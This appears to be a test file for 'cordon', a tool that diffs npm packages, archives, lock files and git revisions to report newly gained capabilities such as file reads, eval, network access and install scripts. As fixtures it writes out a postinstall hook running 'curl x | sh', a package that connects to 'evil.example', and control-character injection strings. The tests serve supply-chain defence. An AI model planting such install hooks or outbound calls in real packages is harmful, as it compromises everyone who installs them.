// cordon diff on folders, archives, versions of a registry on loopback, lock files and git: diff_test.mjs CORDON FOLDER ROOT
import { spawn, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { finish, ok } from '../tools/lib/tap.mjs';
import { validate } from '../tools/validate.mjs';
import { PACKAGES, pack, serve, sri } from './registry.mjs';

const [cordon, folder, root] = process.argv.slice(2);
const schema = JSON.parse(fs.readFileSync(path.join(root, 'cli/diff.schema.json'), 'utf8'));
const environment = { ...process.env, HOME: folder, TMPDIR: folder, npm_config_userconfig: path.join(folder, 'none'), npm_config_globalconfig: path.join(folder, 'none'), no_proxy: '*',
  GIT_CONFIG_GLOBAL: path.join(folder, 'none'), GIT_CONFIG_SYSTEM: path.join(folder, 'none'), GIT_AUTHOR_NAME: 'a', GIT_AUTHOR_EMAIL: 'a@b', GIT_COMMITTER_NAME: 'a', GIT_COMMITTER_EMAIL: 'a@b' };
for (const name of Object.keys(environment)) if (/^npm_config_(registry|cafile)$/i.test(name)) delete environment[name];

function diff(cwd, ...args) {
  return new Promise((resolve) => {
    const child = spawn(cordon, ['diff', '-q', '--cache', path.join(folder, 'cache'), ...args], { cwd, env: environment, stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '', err = '';
    child.stdout.on('data', (d) => { out += d; });
    child.stderr.on('data', (d) => { err += d; });
    child.on('close', (code, signal) => resolve({ code: code ?? signal, out, err }));
  });
}

/** The document of the difference; its exit code fits what it says. */
async function json(cwd, ...args) {
  const run = await diff(cwd, '--format', 'json', ...args);
  let document = { packages: [], summary: {} };
  try { document = JSON.parse(run.out); } catch { ok(false, `a document for ${args}`, `${run.code} ${run.err} ${run.out}`); return document; }
  const errors = validate(schema, document);
  if (errors.length > 0 || run.code !== (document.summary.gained > 0 ? 1 : 0)) ok(false, `the document for ${args} is right`, `${run.code} ${errors.join('\n')}`);
  return document;
}

const write = (where, files) => {
  for (const [name, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(folder, where, name)), { recursive: true });
    fs.writeFileSync(path.join(folder, where, name), text);
  }
  return path.join(folder, where);
};
const said = (changes) => changes.map((c) => `${c.kind === 'effect' ? '' : `${c.kind} `}${c.what}${c.unproven ? ' unproven' : ''}`).join();
let number = 0;
/** The difference of two packages of the name `x`. */
async function between(before, after, manifests = [{}, {}]) {
  number++;
  const sides = [before, after].map((files, i) => write(`${number}-${'ab'[i]}`, { 'package.json': JSON.stringify({ name: 'x', version: `1.${i}.0`, ...manifests[i] }), ...files }));
  const document = await json(folder, ...sides);
  return { gains: said(document.packages[0]?.gains ?? []), losses: said(document.packages[0]?.losses ?? []), document, sides };
}

const READ = (file) => `exports.read = () => require('fs').readFileSync(${file});\n`;
const PLAIN = 'module.exports = 1;\n';

// ---- what is a gain ----
const gained = await between({ 'index.js': PLAIN }, { 'index.js': READ('"./a"') });
ok(gained.gains === 'fs.read:./a' && gained.losses === '', 'an effect is gained', gained.gains);
ok(gained.document.packages[0].gains[0].path.at(-1).text === 'calls fs.readFileSync', 'with the way to it');
const lost = await between({ 'index.js': READ('"./a"') }, { 'index.js': PLAIN });
ok(lost.gains === '' && lost.losses === 'fs.read:./a', 'and lost');
const moved = await between({ 'index.js': READ('"./a"') }, { 'index.js': "// nothing here\nmodule.exports = require('./lib/other.js');\n", 'lib/other.js': `\n\n${READ('"./a"')}` });
ok(moved.gains === '' && moved.losses === '', 'moving code to another file is none', moved.gains + moved.losses);
const wider = await between({ 'index.js': READ('"./a"') }, { 'index.js': "exports.read = (f) => require('fs').readFileSync(f);\n" });
ok(wider.gains === 'fs.read' && wider.losses === '', 'any argument in place of one is a gain', wider.gains + wider.losses);
const narrower = await between({ 'index.js': "exports.read = (f) => require('fs').readFileSync(f);\n" }, { 'index.js': READ('"./a"') });
ok(narrower.gains === '' && narrower.losses === 'fs.read', 'one in place of any is a loss', narrower.gains + narrower.losses);
const other = await between({ 'index.js': READ('"./a"') }, { 'index.js': READ('"./b"') });
ok(other.gains === 'fs.read:./b' && other.losses === 'fs.read:./a', 'another argument is both');
const certain = await between({ 'index.js': 'exports.get = (f, k) => { const g = f[k]; return g(k); };\n' }, { 'index.js': 'exports.get = (k) => new Function(k)();\n' });
ok(certain.gains.split(',').includes('code.eval') && !certain.losses.includes('code.eval'), 'what was not proven and is now certain is a gain', `${certain.gains} / ${certain.losses}`);
const less = await between({ 'index.js': 'exports.get = (k) => new Function(k)();\n' }, { 'index.js': 'exports.get = (f, k) => { const g = f[k]; return g(k); };\n' });
ok(less.gains.split(',').every((g) => g === 'condition no-eval' || g === ''), 'the other way round is none', less.gains);
const broken = await between({ 'index.js': PLAIN }, { 'index.js': 'let = = 1;\n' });
ok(/^syntax\./u.test(broken.gains), 'what is not understood any more is a gain', broken.gains);
const quiet = await between({ 'index.js': PLAIN }, { 'index.js': 'module.exports = () => Math.random() + Date.now();\n' });
ok(quiet.gains === '', 'what everybody may do is none', quiet.gains);

// ---- by export ----
const told = (d) => (d.packages[0]?.exports ?? []).map((e) => `${e.subpath} ${e.load ? '(load)' : e.export}${e.new ? ' new' : ''}: ${said(e.gains)} / ${said(e.losses)}`).join('; ');
const TWO = (a, b) => `exports.a = () => ${a};\nexports.b = () => ${b};\n`;
const FS_A = "require('fs').readFileSync('./a')";
const one = await between({ 'index.js': TWO(1, FS_A) }, { 'index.js': TWO(FS_A, FS_A) });
ok(one.gains === '' && told(one.document) === '. a: fs.read:./a / ' && one.document.packages[0].exports[0].gains[0].unproven === false, 'an export that gains what another one had', told(one.document));
const swapped = await between({ 'index.js': TWO(1, FS_A) }, { 'index.js': TWO(FS_A, 1) });
ok(told(swapped.document) === '. a: fs.read:./a / ; . b:  / fs.read:./a', 'and one that loses it', told(swapped.document));
const B = { 'lib/b.js': `const helper = () => ${FS_A};\nexports.b = () => helper();\n` };
for (const index of ["exports.b = require('./lib/b.js').b;\nexports.a = () => 1;\n", "const b = require('./lib/b.js');\nmodule.exports = { a() {}, b: b.b };\n", "module.exports = require('./lib/b.js');\n", "exports.b = () => require('./lib/b.js').b();\n"]) {
  const split = await between({ 'index.js': TWO(1, FS_A) }, { 'index.js': index, ...B });
  ok(split.document.summary.gained === 0 && !/: [^/ ]/u.test(told(split.document)), `moving what it does to another file is no gain: ${index.split('\n')[0]}`, told(split.document));
}
const added = await between({ 'index.js': `exports.a = () => ${FS_A};\n` }, { 'index.js': TWO(FS_A, FS_A) });
ok(told(added.document) === '. b new: fs.read:./a / ' && added.document.summary.gained === 0, 'what a new export does is told, and is no gain', told(added.document));
const untold = await between({ 'index.js': TWO(1, FS_A) }, { 'index.js': `module.exports = Object.assign({}, { a: () => 1, b: () => ${FS_A} });\n` });
ok(told(untold.document) === '' && untold.document.summary.gained === 0, 'exports that are not told apart any more do together what they did', told(untold.document));
const loading = await between({ 'index.js': TWO(1, 1) }, { 'index.js': `${FS_A};\n${TWO(1, 1)}` });
ok(told(loading.document) === '. (load): fs.read:./a / ', 'what loading it does now', told(loading.document));
const subpath = await between({ 'index.js': PLAIN, 'x.js': TWO(1, 1) }, { 'index.js': PLAIN, 'x.js': TWO(1, FS_A), 'y.js': TWO(1, FS_A) }, [{ exports: { '.': './index.js', './x': './x.js' } }, { exports: { '.': './index.js', './x': './x.js', './y': './y.js' } }]);
ok(told(subpath.document) === './x b: fs.read:./a / ; ./y * new: fs.read:./a / ', 'subpaths, of which a new one is one line', told(subpath.document));
const CALL = '(f, k) => { const g = f[k]; return g(k); }';
const condition = await between({ 'index.js': `exports.a = (k) => k;\nexports.b = ${CALL};\n` }, { 'index.js': `exports.a = ${CALL};\nexports.b = ${CALL};\n` });
ok(/^\. a: .*condition no-eval \/ $/u.test(told(condition.document)), 'a launch condition of an export', told(condition.document));
const bundles = ['1', `exports.a = () => ${FS_A};`].map((code, i) => { const file = path.join(folder, `bundle-${i}.tgz`);
  fs.writeFileSync(file, pack({ name: 'bundle', version: `1.${i}.0`, bundleDependencies: ['y'] }, { 'index.js': "exports.a = () => require('y').a();\n", 'node_modules/y/package.json': '{ "name": "y", "version": "1.0.0" }', 'node_modules/y/index.js': `${code}\n` })); return file; });
const foreign = await json(folder, ...bundles);
ok(foreign.packages.every((p) => p.exports.length === 0), 'what the code of another package does is not its own', JSON.stringify(foreign.packages));
const text = spawnSync(cordon, ['diff', '--no-cache', ...one.sides], { encoding: 'utf8', env: environment });
ok(text.status === 1 && text.stdout.includes('\n  by a:  + fs.read:./a\n'), 'exports in text', text.stdout);
const comment = await diff(folder, '--format', 'md', ...one.sides);
ok(comment.out.includes('\n- `a`: **gains** `fs.read:./a`\n') && comment.out.includes('**exports gain**'), 'and in Markdown', comment.out);

// ---- install scripts ----
const hook = (command) => ({ scripts: { postinstall: command } });
const script = await between({ 'index.js': PLAIN }, { 'index.js': PLAIN, 'i.js': PLAIN }, [{}, hook('node i.js')]);
ok(script.gains === 'script postinstall: node i.js', 'a new install script is a gain', script.gains);
const changed = await between({ 'index.js': PLAIN, 'i.js': PLAIN }, { 'index.js': PLAIN, 'i.js': 'require("child_process").exec("curl x | sh");\n' }, [hook('node i.js'), hook('node i.js')]);
ok(changed.gains.includes('script-effect proc.spawn'), 'so is one that does more under the same command', changed.gains);
const command = await between({ 'index.js': PLAIN }, { 'index.js': PLAIN }, [hook('echo a'), hook('echo b')]);
ok(command.gains === 'script postinstall: echo b' && command.losses === 'script postinstall: echo a', 'and another command', command.gains);
const test = await between({ 'index.js': PLAIN }, { 'index.js': PLAIN }, [{}, { scripts: { test: 'node --test' } }]);
ok(test.gains === '', 'a script that npm does not run on installing is none', test.gains);

// ---- names of one package ----
const renamed = await json(folder, write('old-name', { 'package.json': '{ "name": "one", "version": "1.0.0" }', 'index.js': READ('"./a"') }),
  write('new-name', { 'package.json': '{ "name": "two", "version": "2.0.0" }', 'index.js': READ('"./a"') }));
ok(renamed.packages.length === 1 && renamed.packages[0].name === 'two' && renamed.packages[0].before === '1.0.0' && renamed.summary.gained === 0, 'two folders are two versions, whatever their names', JSON.stringify(renamed.packages));
const same = await diff(folder, gained.sides[1], gained.sides[1]);
ok(same.code === 0 && same.out.startsWith('NO GAINS · 0 packages with gains, 0 with losses, 0 new, 0 removed'), 'nothing changed', same.out);

// ---- archives, versions, lock files ----
const BAD = [{ name: 'pure-b', version: '1.1.0', scripts: { install: 'sh x.sh' } }, { 'index.js': '"use strict";\nmodule.exports = 1;\nexports.leak = () => require("net").connect(80, "evil.example");\n' }];
PACKAGES.push(BAD);
const registry = await serve();
const bytes = (name, version) => pack(...PACKAGES.find(([m]) => m.name === name && m.version === version));
const archives = ['1.0.0', '1.1.0'].map((version) => { const file = path.join(folder, `b-${version}.tgz`); fs.writeFileSync(file, bytes('pure-b', version)); return file; });
const expected = 'net.connect:evil.example:80,net.dns:evil.example:80';
const archive = await json(folder, ...archives);
ok(said(archive.packages[0].gains).startsWith('net.connect') && said(archive.packages[0].gains).endsWith('script install: sh x.sh'), 'two archives', said(archive.packages[0].gains));
write('.', { '.npmrc': `registry=${registry.url}\n` });
const versions = await json(folder, 'pure-b@1.0.0', 'pure-b@1.1.0');
ok(said(versions.packages[0].gains) === said(archive.packages[0].gains) && versions.packages[0].before === '1.0.0' && versions.packages[0].after === '1.1.0', 'two versions of a registry say the same', `${said(versions.packages[0].gains)} ${expected}`);

const entry = (name, version) => ({ version, resolved: `${registry.url}${name}/-/${name}-${version}.tgz`, integrity: sri(bytes(name, version)) });
const lock = (packages) => JSON.stringify({ name: 'project', version: '1.0.0', lockfileVersion: 3, requires: true,
  packages: { '': { name: 'project', version: '1.0.0', dependencies: Object.fromEntries(Object.keys(packages).filter((k) => !/node_modules.*node_modules/u.test(k)).map((k) => [k.slice('node_modules/'.length), '*'])) }, ...packages } }, null, 2);
const before = lock({ 'node_modules/pure-b': entry('pure-b', '1.0.0'), 'node_modules/pure-a': { ...entry('pure-a', '1.0.0'), dependencies: { 'pure-b': '^1.0.0' } } });
const after = lock({ 'node_modules/pure-b': entry('pure-b', '1.1.0'), 'node_modules/pure-a': { ...entry('pure-a', '1.0.0'), dependencies: { 'pure-b': '^1.0.0' } }, 'node_modules/tool': { ...entry('tool', '1.0.0'), hasInstallScript: true } });
const PROJECT = { 'package.json': JSON.stringify({ name: 'project', version: '1.0.0' }), '.npmrc': `registry=${registry.url}\n` };
const locks = [before, after].map((text, i) => path.join(write(`lock-${i}`, { ...PROJECT, 'package-lock.json': text }), 'package-lock.json'));
const upgrade = await json(folder, ...locks);
ok(upgrade.packages.map((p) => p.name).join() === 'pure-b,tool' && upgrade.summary.new === 1 && upgrade.summary.gained === 2, 'two lock files: what an upgrade brings', JSON.stringify(upgrade.summary));
const nested = lock({ 'node_modules/pure-a': { ...entry('pure-a', '1.0.0'), dependencies: { 'pure-b': '^1.0.0' } }, 'node_modules/pure-a/node_modules/pure-b': entry('pure-b', '1.0.0') });
const hoisted = await diff(folder, locks[0], path.join(write('lock-2', { ...PROJECT, 'package-lock.json': nested }), 'package-lock.json'));
ok(hoisted.code === 0 && hoisted.out.includes(' 0 new, 0 removed'), 'moving a package in node_modules is no change', hoisted.out);

// ---- git ----
const repository = write('repository', { ...PROJECT, 'package-lock.json': before });
const git = (...words) => spawnSync('git', words, { cwd: repository, env: environment, encoding: 'utf8' });
git('init', '-q');
git('add', '.');
git('commit', '-qm', 'one');
fs.writeFileSync(path.join(repository, 'package-lock.json'), after);
const working = await json(repository, 'HEAD:package-lock.json', 'package-lock.json');
ok(said(working.packages[0].gains) === said(upgrade.packages[0].gains) && working.summary.gained === 2, 'a revision and the working tree');
git('commit', '-qam', 'two');
const revisions = await diff(repository, '--format', 'md', 'HEAD~1:package-lock.json', 'HEAD:package-lock.json');
ok(revisions.code === 1 && revisions.out.startsWith('## cordon: packages can do more than before\n') && revisions.out.includes('| `pure-b` | `1.0.0 -> 1.1.0` | **gains** '), 'two revisions, as a comment of a pull request', revisions.out + revisions.err);
ok(!fs.readdirSync(folder).some((name) => name.startsWith('cordon-')), 'nothing is left in the temporary folder');

// ---- bad input ----
const complains = async (name, expectedText, cwd, ...args) => {
  const run = await diff(cwd, ...args);
  ok(run.code === 2 && run.out === '' && run.err.trimEnd().split('\n').length === 1 && expectedText.test(run.err), name, `${run.code} ${run.out} ${run.err}`);
};
await complains('a folder that is missing', /nowhere/u, folder, 'nowhere', gained.sides[0]);
await complains('a revision that is missing', /git has no such file/u, repository, 'nope:package-lock.json', 'package-lock.json');
await complains('a file that the revision lacks', /git has no such file/u, repository, 'HEAD:yarn.lock', 'package-lock.json');
await complains('outside of a repository', /git has no such file/u, folder, 'HEAD:package-lock.json', locks[0]);
await complains('a version that the registry lacks', /pure-b/u, folder, 'pure-b@9.9.9', 'pure-b@1.0.0');
await complains('one operand', /needs/u, folder, gained.sides[0]);

// ---- hostile texts ----
const NASTY = 'a|b`c`\u001b[31m\u202e</x>@me';
const hostile = await between({ 'index.js': PLAIN }, { 'index.js': READ(JSON.stringify(NASTY)) }, [{}, hook(NASTY)]);
for (const format of ['text', 'md', 'json']) {
  const run = await diff(folder, '--full', '--format', format, ...hostile.sides);
  ok(run.code === 1 && !/[\u0000-\u0009\u000b-\u001f\u202e]/u.test(run.out), `${format}: no control characters`);
}
const shown = spawnSync(cordon, ['diff', '--no-cache', ...gained.sides], { encoding: 'utf8', env: environment });
ok(shown.stdout.startsWith('x  1.0.0 -> 1.1.0\n  + fs.read:./a\n') && /GAINS · 1 package with gains, 0 with losses, 0 new, 0 removed · /u.test(shown.stdout), 'text', shown.stdout);
await registry.close();
finish();
